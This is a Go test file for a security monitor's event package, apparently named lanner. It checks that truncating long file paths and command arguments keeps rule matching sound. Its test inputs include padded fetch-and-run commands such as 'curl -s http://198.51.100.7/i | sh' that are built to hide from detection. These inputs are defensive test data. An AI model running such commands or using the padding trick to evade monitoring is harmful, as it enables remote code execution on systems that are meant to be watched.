package event_test

import (
	"strings"
	"testing"

	"github.com/lannersec/lanner/event"
	"github.com/lannersec/lanner/match"
)

// deepPath returns an absolute path below dir of at least n bytes, made of
// components of width w, ending in /payload.
func deepPath(dir string, n, w int) string {
	var b strings.Builder
	b.WriteString(dir)
	comp := strings.Repeat("a", w)
	for b.Len() < n {
		b.WriteString("/" + comp)
	}
	b.WriteString("/payload")
	return b.String()
}

func TestCutPath(t *testing.T) {
	for _, tc := range []struct {
		name string
		path string
		cut  bool
	}{
		{"short", "/dev/x", false},
		{"exactly PathMax", "/" + strings.Repeat("a", event.PathMax-1), false},
		{"one byte over", "/" + strings.Repeat("a", event.PathMax), true},
		{"deep below /dev", deepPath("/dev/.x", 5000, 1), true},
		{"long names below /dev", deepPath("/dev", 9000, 255), true},
		{"real name ending in the mark", "/dev/x...", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := event.CutPath(tc.path)
			if event.PathIsCut(got) != tc.cut {
				t.Fatalf("PathIsCut(CutPath(%d bytes)) = %v, want %v", len(tc.path), !tc.cut, tc.cut)
			}
			if !tc.cut {
				if got != tc.path {
					t.Fatalf("uncut path changed")
				}
				return
			}
			if !strings.HasPrefix(tc.path, strings.TrimSuffix(got, event.PathCutMark)) {
				t.Fatal("the cut path is not the head of the path")
			}
			if len(got) != event.PathMax+len(event.PathCutMark) {
				t.Fatalf("cut path of %d bytes", len(got))
			}
		})
	}
}

// TestCutPathRules checks that rule operators decide on a cut path as on
// the whole path wherever the head decides, and that equality never
// matches it.
func TestCutPathRules(t *testing.T) {
	full := deepPath("/dev/.x", 6000, 1)
	cut := event.CutPath(full)
	file := func(name string) *event.Event {
		return &event.Event{FD: event.FD{Kind: event.FDFile, Name: name}}
	}
	ev := file(cut)
	dir, ok := event.FDDirectoryName(ev, event.Arg{})
	if !ok || dir != cut {
		t.Errorf("fd.directory of a cut path = %.40q, %v; want the cut path", dir, ok)
	}
	if f, ok := event.FDFilename(ev, event.Arg{}); ok {
		t.Errorf("fd.filename of a cut path = %.40q, want absent", f)
	}
	// The directory a rule would see of the cut path's head, were it
	// taken for a whole path: an ancestor of the real directory.
	ancestor := cut[:strings.LastIndexByte(cut, '/')]

	for _, tc := range []struct {
		name      string
		got, want bool
	}{
		{"startswith /dev/", strings.HasPrefix(cut, "/dev/"), true},
		{"glob /dev/.*", match.Glob("/dev/.*", dir), true},
		{"glob /dev/*", match.Glob("/dev/*", cut), true},
		{"pmatch /dev", match.NewPathPrefixes("/dev").Match(cut), true},
		{"pmatch /dev/.x", match.NewPathPrefixes("/dev/.x").Match(cut), true},
		{"pmatch /etc", match.NewPathPrefixes("/etc").Match(cut), false},
		{"fd.directory = /dev", dir == "/dev", false},
		{"fd.directory = ancestor", dir == ancestor, false},
		{"fd.name = head", cut == full[:event.PathMax], false},
		{"fd.name = full", cut == full, false},
		{"glob *payload", match.Glob("*payload", cut), false},
	} {
		if tc.got != tc.want {
			t.Errorf("%s on a cut path: %v, want %v", tc.name, tc.got, tc.want)
		}
	}

	// A real file whose name ends in the mark is not taken for a cut one.
	ev = file("/dev/x...")
	if d, _ := event.FDDirectoryName(ev, event.Arg{}); d != "/dev" {
		t.Errorf("fd.directory of /dev/x... = %q", d)
	}
}

func TestCutArgv(t *testing.T) {
	pad := strings.Repeat("x", 4100)
	cmd := ": " + pad + "; curl -s http://198.51.100.7/i | sh"
	big := strings.Repeat("y", 20000)
	for _, tc := range []struct {
		name     string
		args     []string
		cut      bool
		contains []string
	}{
		{"short", []string{"sh", "-c", "id"}, false, []string{"sh -c id"}},
		{"padded before the command", []string{"sh", "-c", cmd}, false, []string{"curl -s", "| sh"}},
		{"padded far before the command", []string{"sh", "-c", ": " + big + "; curl x | sh"}, true,
			[]string{"sh -c : yyy", event.ArgvCutMark + "yyy", "; curl x | sh"}},
		{"padded after the command", []string{"sh", "-c", "curl x | sh; : " + big}, true,
			[]string{"sh -c curl x | sh; : yy", event.ArgvCutMark}},
		{"many arguments", append([]string{"sh", "-c", "curl x | sh"}, strings.Split(strings.Repeat("a ", 10000), " ")...), true,
			[]string{"sh -c curl x | sh a a", event.ArgvCutMark}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var raw []byte
			for _, a := range tc.args {
				raw = append(raw, a...)
				raw = append(raw, 0)
			}
			got := event.CutArgv(nil, raw)
			if tc.cut != (len(raw) > event.ArgvHead+event.ArgvTail) {
				t.Fatalf("test case: cut %v but %d bytes", tc.cut, len(raw))
			}
			joined := strings.Join(got, " ")
			if !tc.cut && !equal(got, tc.args) {
				t.Fatalf("uncut arguments changed: %d args, want %d", len(got), len(tc.args))
			}
			if tc.cut && len(joined) > event.ArgvHead+event.ArgvTail+len(event.ArgvCutMark) {
				t.Fatalf("cut argv is %d bytes", len(joined))
			}
			for _, s := range tc.contains {
				if !strings.Contains(joined, s) {
					t.Errorf("cut argv lacks %q", s)
				}
			}
			if !equal(event.CutArgs(tc.args), got) {
				t.Error("CutArgs differs from CutArgv")
			}
		})
	}
	// No final NUL, as some sources give it.
	if got := event.CutArgv(nil, []byte("a\x00b")); !equal(got, []string{"a", "b"}) {
		t.Errorf("CutArgv without final NUL = %q", got)
	}
}

func equal(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// FuzzCutArgv feeds argument lists of any bytes: the result is the list
// itself when it is short enough, else at most the bytes kept and the
// mark, beginning with the list's head and ending with its tail.
func FuzzCutArgv(f *testing.F) {
	f.Add([]byte("sh\x00-c\x00id\x00"))
	f.Add([]byte(strings.Repeat("x\x00", 5000)))
	f.Add([]byte(": " + strings.Repeat("x", 9000) + "; curl x | sh"))
	f.Fuzz(func(t *testing.T, raw []byte) {
		got := event.CutArgv(nil, raw)
		joined := strings.Join(got, "\x00") + "\x00"
		whole := string(raw)
		if !strings.HasSuffix(whole, "\x00") {
			whole += "\x00"
		}
		if len(whole) <= event.ArgvHead+event.ArgvTail {
			if len(raw) > 0 && joined != whole {
				t.Fatalf("uncut list changed")
			}
			return
		}
		if joined != whole[:event.ArgvHead]+event.ArgvCutMark+whole[len(whole)-event.ArgvTail:] {
			t.Fatalf("cut list is not head, mark and tail")
		}
	})
}
